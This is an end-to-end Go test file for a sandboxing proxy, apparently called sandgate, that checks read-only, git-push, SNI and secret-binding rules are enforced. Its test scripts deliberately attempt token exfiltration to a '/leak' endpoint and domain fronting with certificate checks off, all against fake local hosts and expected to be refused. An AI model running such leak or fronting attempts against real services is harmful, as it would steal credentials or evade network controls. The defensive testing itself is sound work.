//go:build linux

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/cgi"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// Inside allowed hosts (issue 12): the real binary inspects hosts with
// method/path rules and decides each request.
//
// CMD trusts the run's CA through the trust view (Spec.TrustPEM): curl and
// git run with no certificate flag. sandgate itself verifies the fake
// internet's certificates against SSL_CERT_FILE, the test CA (the system
// trust store as Go reads it), never weaker; CMD inherits that variable, and
// the trust view points it at a bundle of its certificates plus the run CA.

// requestLog records what a test server was sent.
type requestLog struct {
	mu   sync.Mutex
	seen []string
}

func (l *requestLog) add(r *http.Request) {
	l.mu.Lock()
	l.seen = append(l.seen, r.Method+" "+r.URL.RequestURI())
	l.mu.Unlock()
}

func (l *requestLog) has(sub string) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, s := range l.seen {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}

// runInspected runs `sandgate run FLAGS -- /bin/sh -c SCRIPT sh ARGS...` in
// the project directory of d, with sandgate trusting the world's CA.
func runInspected(t *testing.T, w *world, d *clientDirs, flags []string, script string, args ...string) outcome {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	c := w.hostCmd(ctx, nil, d.home, sandgateArgv(flags, append([]string{"/bin/sh", "-c", script, "sh"}, args...)...)...)
	c.Env = append(c.Env, "SSL_CERT_FILE="+w.caFile)
	c.Dir = d.project
	return finish(t, c)
}

// requestEvent is the part of an audit line the inspection tests look at.
type requestEvent struct {
	Proto, Host, Decision, Reason, Method, Path, Text string
	Port                                              uint16
}

// readRequestAudit reads the JSON Lines audit file at path.
func readRequestAudit(t *testing.T, path string) []requestEvent {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("audit file: %v", err)
	}
	var evs []requestEvent
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var e requestEvent
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		evs = append(evs, e)
	}
	return evs
}

// findEvent returns the first event matching method, path prefix and
// reason, or fails the test listing them all.
func findEvent(t *testing.T, evs []requestEvent, method, path, reason string) requestEvent {
	t.Helper()
	for _, e := range evs {
		if e.Method == method && strings.HasPrefix(e.Path, path) && e.Reason == reason {
			return e
		}
	}
	t.Errorf("no audit event %s %s (%s); have %+v", method, path, reason, evs)
	return requestEvent{}
}

const inspectScript = `
curl -sS --max-time 10 -o /dev/null -w 'T-GET=%{http_code}\n' "https://remote.test:$1/docs/a"
curl -sS --max-time 10 -D hdr.txt -o body.txt -w 'T-POST=%{http_code}\n' -X POST -d leak=1 "https://remote.test:$1/docs/a"
grep -i '^x-proxy-error: blocked-by-method' hdr.txt >/dev/null && echo T-POST-BLOCKED-BY-METHOD
curl -sS --max-time 10 -o /dev/null -w 'T-PLAIN-POST=%{http_code}\n' -X POST -d leak=1 http://remote.test/form
curl -sS --max-time 10 -o /dev/null -w 'T-PLAIN-GET=%{http_code}\n' http://remote.test/
curl -sS --max-time 10 --noproxy '*' -o /dev/null -w 'T-TRANSPARENT-PUT=%{http_code}\n' -X PUT -d x "https://remote.test:$1/docs/b"
curl -sS --max-time 10 --cacert "$2" -o /dev/null -w 'T-END-TO-END=%{http_code}\n' -X POST -d ok=1 "https://remote4.test:$1/other"
exit 0
`

// TestRunReadOnlyHost: with --read-only remote.test, GET passes and POST
// gets 403 blocked-by-method, over HTTPS (CONNECT, inspected), plain HTTP
// and the transparent path; the refused requests never reach the server,
// and are in the audit file with method and path. remote4.test, allowed
// without rules, keeps its TLS end to end (curl verifies the server's own
// certificate).
func TestRunReadOnlyHost(t *testing.T) {
	w := requireSandgate(t)
	t.Parallel()
	needTools(t, "curl")
	d := newClientDirs(t)
	var log requestLog
	port := serveRemoteTLS(t, w, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		log.add(r)
		fmt.Fprintf(rw, "sgtest-inspect %s %s\n", r.Method, r.URL.Path)
	}))
	auditFile := filepath.Join(t.TempDir(), "audit.jsonl")
	flags := []string{"--backend", "netns", "--audit", auditFile, "--read-only", "remote.test", "--allow", "remote4.test"}
	o := runInspected(t, w, d, flags, inspectScript, port, w.caFile)
	wantOutput(t, o, "T-GET=200", "T-POST=403", "T-POST-BLOCKED-BY-METHOD", "T-PLAIN-POST=403", "T-PLAIN-GET=200",
		"T-TRANSPARENT-PUT=403", "T-END-TO-END=200")
	if log.has("POST /docs") || log.has("PUT /docs") {
		t.Errorf("a refused request reached the server: %v", log.seen)
	}
	if !log.has("GET /docs/a") || !log.has("POST /other") {
		t.Errorf("the server did not get the allowed requests: %v", log.seen)
	}
	evs := readRequestAudit(t, auditFile)
	if e := findEvent(t, evs, "POST", "/docs/a", "blocked-by-method"); e.Decision != "deny" || e.Proto != "connect" || !strings.Contains(e.Text, "--read-only remote.test") {
		t.Errorf("CONNECT refusal event %+v", e)
	}
	findEvent(t, evs, "GET", "/docs/a", "allowed")
	findEvent(t, evs, "POST", "/form", "blocked-by-method")
	if e := findEvent(t, evs, "PUT", "/docs/b", "blocked-by-method"); e.Proto != "transparent" {
		t.Errorf("transparent refusal event %+v", e)
	}
	for _, e := range evs {
		if e.Host == "remote4.test" && e.Method != "" {
			t.Errorf("the uninspected host's event has a method: %+v", e)
		}
	}
	if !strings.Contains(o.stderr, "blocked-by-method") && !strings.Contains(o.stderr, "not allowed") {
		t.Errorf("the exit summary does not mention the refusals:\n%s", o.stderr)
	}
}

const gitReadOnlyScript = `
[ -n "$2" ] && export GIT_SSL_CAINFO="$2" # uninspected: the server's own CA
git clone -q "https://remote.test:$1/git/repo.git" clone && echo T-CLONE-OK
cat clone/hello.txt
cd clone
echo more > more.txt
git add more.txt
git -c user.name=sgtest -c user.email=sgtest@example.test commit -q -m more
if git push -q origin HEAD:main 2>push.err; then echo T-PUSHED; else echo T-PUSH-REFUSED; fi
cat push.err >&2
grep -q 403 push.err && echo T-PUSH-403
exit 0
`

// TestRunReadOnlyGit: with --read-only-git, real git (no certificate
// option: it trusts the run CA through the trust view) clones over HTTPS
// (git http-backend, inspected) and its push is refused (403 on
// git-receive-pack), although the server would accept it: without the
// rule (--allow, TLS end to end) the same push goes through.
func TestRunReadOnlyGit(t *testing.T) {
	w := requireSandgate(t)
	t.Parallel()
	needTools(t, "git", gitHTTPBackend)
	served := t.TempDir()
	bare := newBareRepo(t, served, "sgtest read-only git\n")
	hostRun(t, bare, "git", "config", "http.receivepack", "true")
	var log requestLog
	cgiH := &cgi.Handler{
		Path: gitHTTPBackend,
		Root: "/git",
		Env:  []string{"GIT_PROJECT_ROOT=" + served, "GIT_HTTP_EXPORT_ALL=1"},
	}
	port := serveRemoteTLS(t, w, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		log.add(r)
		cgiH.ServeHTTP(rw, r)
	}))

	d := newClientDirs(t)
	auditFile := filepath.Join(t.TempDir(), "audit.jsonl")
	o := runInspected(t, w, d, []string{"--backend", "netns", "--audit", auditFile, "--read-only-git", "remote.test/git/*"}, gitReadOnlyScript, port, "")
	wantOutput(t, o, "T-CLONE-OK", "sgtest read-only git", "T-PUSH-REFUSED", "T-PUSH-403")
	if log.has("git-receive-pack") {
		t.Errorf("the push reached the server: %v", log.seen)
	}
	evs := readRequestAudit(t, auditFile)
	findEvent(t, evs, "POST", "/git/repo.git/git-upload-pack", "allowed")
	findEvent(t, evs, "GET", "/git/repo.git/info/refs?service=git-receive-pack", "blocked-by-path")

	// The control: the same push without the rule reaches the server.
	d2 := newClientDirs(t)
	o = runInspected(t, w, d2, []string{"--backend", "netns", "--allow", "remote.test"}, gitReadOnlyScript, port, w.caFile)
	wantOutput(t, o, "T-CLONE-OK", "T-PUSHED")
	if !log.has("git-receive-pack") {
		t.Errorf("the control push did not reach the server: %v", log.seen)
	}
}

// sniScript opens a CONNECT tunnel to remote.test through the proxy and
// then sends a ClientHello naming remote4.test (domain fronting).
const sniScript = `
import os, socket, ssl, sys
port = sys.argv[1]
host, pport = os.environ["HTTPS_PROXY"].split("//", 1)[1].rstrip("/").rsplit(":", 1)
s = socket.create_connection((host, int(pport)), timeout=10)
s.sendall(("CONNECT remote.test:%s HTTP/1.1\r\nHost: remote.test:%s\r\n\r\n" % (port, port)).encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
print("T-CONNECT", head.split(b"\r\n")[0].decode())
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname="remote4.test")
    print("T-FRONTING-ACCEPTED")
except Exception as e:
    print("T-FRONTING-REFUSED", type(e).__name__)
`

// TestRunInspectRefusals: a ClientHello naming another host than the
// tunnel's is refused (no domain fronting through an inspected name), and
// an upstream whose certificate sandgate cannot verify (no SSL_CERT_FILE:
// the test CA is not in the system trust) is 502 upstream-tls, without the
// request reaching it.
func TestRunInspectRefusals(t *testing.T) {
	w := requireSandgate(t)
	t.Parallel()
	needTools(t, "curl", "python3")
	var log requestLog
	port := serveRemoteTLS(t, w, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		log.add(r)
		fmt.Fprintln(rw, "sgtest-inspect")
	}))
	d := newClientDirs(t)
	auditFile := filepath.Join(t.TempDir(), "audit.jsonl")
	o := runInspected(t, w, d, []string{"--backend", "netns", "--audit", auditFile, "--read-only", "remote.test", "--allow", "remote4.test"},
		`exec python3 -c "$2" "$1"`, port, sniScript)
	wantOutput(t, o, "T-CONNECT HTTP/1.1 200", "T-FRONTING-REFUSED")
	if strings.Contains(o.stdout, "T-FRONTING-ACCEPTED") {
		t.Errorf("a ClientHello naming another host was accepted")
	}
	found := false
	for _, e := range readRequestAudit(t, auditFile) {
		found = found || (e.Reason == "sni-mismatch" && e.Host == "remote.test" && e.Decision == "deny" && strings.Contains(e.Text, "remote4.test"))
	}
	if !found {
		t.Errorf("no sni-mismatch refusal in the audit")
	}

	// Without SSL_CERT_FILE sandgate does not trust the test CA.
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	script := `curl -sS --max-time 10 -D hdr.txt -o body.txt -w 'T-CODE=%{http_code}\n' "https://remote.test:$1/docs"
grep -qi '^x-proxy-error: upstream-tls' hdr.txt && echo T-UPSTREAM-TLS
cat body.txt`
	c := w.hostCmd(ctx, nil, d.home, sandgateArgv([]string{"--backend", "netns", "--read-only", "remote.test"}, "/bin/sh", "-c", script, "sh", port)...)
	c.Dir = d.project
	o = finish(t, c)
	wantOutput(t, o, "T-CODE=502", "T-UPSTREAM-TLS", "unknown authority")
	if log.has("/docs") {
		t.Errorf("a request reached an upstream whose certificate did not verify: %v", log.seen)
	}
}

const secretScript = `
echo "T-PLACEHOLDER=$TOKEN"
curl -sS --max-time 10 -o /dev/null -w 'T-BOUND=%{http_code}\n' -H "Authorization: Bearer $TOKEN" "https://remote.test:$1/api"
curl -sS --max-time 10 -D hdr.txt -o /dev/null -w 'T-UNBOUND=%{http_code}\n' -H "Authorization: Bearer $TOKEN" "https://remote4.test:$1/leak"
grep -qi '^x-proxy-error: secret-not-bound' hdr.txt && echo T-SECRET-NOT-BOUND
echo "T-ECHO=$(curl -sS --max-time 10 -H "Authorization: Bearer $TOKEN" "https://remote.test:$1/echo")"
curl -sS --max-time 10 -o /dev/null -w 'T-UNBOUND-PLAIN=%{http_code}\n' "http://remote4.test/leak?access_token=$TOKEN"
exit 0
`

// TestRunSecretBound: CMD gets a placeholder in $TOKEN; the bound host
// (inspected for it) receives the real value (and when it echoes it, CMD
// reads the placeholder), another host (inspected, or
// plain HTTP) gets nothing and CMD gets 403 secret-not-bound; neither the
// value nor the placeholder is in the audit file.
func TestRunSecretBound(t *testing.T) {
	w := requireSandgate(t)
	t.Parallel()
	needTools(t, "curl")
	const real = "sgtest-real-token-0123456789abcdefghijklmn"
	var mu sync.Mutex
	var auths []string
	port := serveRemoteTLS(t, w, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		mu.Lock()
		auths = append(auths, r.Host+" "+r.URL.Path+" "+r.Header.Get("Authorization"))
		mu.Unlock()
		if r.URL.Path == "/echo" {
			fmt.Fprint(rw, r.Header.Get("Authorization")) // a server that echoes the request
			return
		}
		fmt.Fprintln(rw, "sgtest-secret")
	}))
	d := newClientDirs(t)
	auditFile := filepath.Join(t.TempDir(), "audit.jsonl")
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	flags := []string{"--backend", "netns", "--audit", auditFile, "--secret", "TOKEN=remote.test",
		"--allow", "remote.test", "--allow", "remote4.test", "--inspect", "remote4.test"}
	c := w.hostCmd(ctx, nil, d.home, sandgateArgv(flags, "/bin/sh", "-c", secretScript, "sh", port)...)
	c.Env = append(c.Env, "SSL_CERT_FILE="+w.caFile, "TOKEN="+real)
	c.Dir = d.project
	o := finish(t, c)
	wantOutput(t, o, "T-BOUND=200", "T-UNBOUND=403", "T-SECRET-NOT-BOUND", "T-UNBOUND-PLAIN=403")
	var placeholder string
	for _, l := range strings.Split(o.stdout, "\n") {
		if v, ok := strings.CutPrefix(l, "T-PLACEHOLDER="); ok {
			placeholder = v
		}
	}
	if placeholder == "" || placeholder == real || len(placeholder) != len(real) {
		t.Fatalf("CMD's $TOKEN is %q, want a placeholder as long as the value", placeholder)
	}
	if strings.Contains(o.stdout+o.stderr, real) {
		t.Errorf("the real value reached CMD's output or sandgate's stderr")
	}
	if !strings.Contains(o.stdout, "T-ECHO=Bearer "+placeholder+"\n") {
		t.Errorf("the bound host's echo did not come back to CMD with the placeholder")
	}
	mu.Lock()
	got := strings.Join(auths, "\n")
	mu.Unlock()
	if got != "remote.test:"+port+" /api Bearer "+real+"\nremote.test:"+port+" /echo Bearer "+real {
		t.Errorf("the servers saw:\n%s\nwant only the bound request, with the real value", got)
	}
	audit, err := os.ReadFile(auditFile)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(audit), real) || strings.Contains(string(audit), placeholder) {
		t.Errorf("the audit holds the value or its placeholder:\n%s", audit)
	}
	if !strings.Contains(string(audit), `"reason":"secret-not-bound"`) {
		t.Errorf("the audit has no secret-not-bound refusal:\n%s", audit)
	}
}
